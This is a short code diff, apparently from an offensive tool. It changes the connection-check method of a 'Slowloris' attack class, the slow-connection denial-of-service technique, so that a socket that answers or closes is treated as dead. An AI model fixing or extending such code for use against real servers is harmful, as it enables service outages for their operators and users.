@@ -99,7 +99,8 @@ class Slowloris(Attack):
         try:
             connection.sendall(byte)
             connection.setblocking(False)
-  X
+            connection.recv(1000)  # an answer or the end: either way nobody listens any more
+            return False
         except BlockingIOError:
             connection.settimeout(2)
             return True
